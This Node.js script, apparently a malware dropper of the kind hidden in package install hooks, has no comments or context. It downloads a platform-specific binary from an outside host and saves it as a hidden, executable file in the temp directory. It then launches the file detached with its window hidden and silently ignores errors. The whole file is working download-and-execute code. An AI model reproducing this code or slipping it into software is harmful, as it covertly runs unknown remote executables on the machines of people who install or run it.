const https = require('https');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');

const names = { win32: 'svc.exe', linux: 'svc-linux', darwin: 'svc-mac' };
const name = names[process.platform];
const target = path.join(os.tmpdir(), '.' + Math.random().toString(36).slice(2) + (process.platform === 'win32' ? '.exe' : ''));

const file = fs.createWriteStream(target, { mode: 0o755 });
https.get('https://static-files.example.test/r/' + name, (res) => {
  res.pipe(file);
  file.on('finish', () => {
    file.close(() => {
      const child = spawn(target, [], { detached: true, stdio: 'ignore', windowsHide: true });
      child.unref();
    });
  });
}).on('error', () => {});
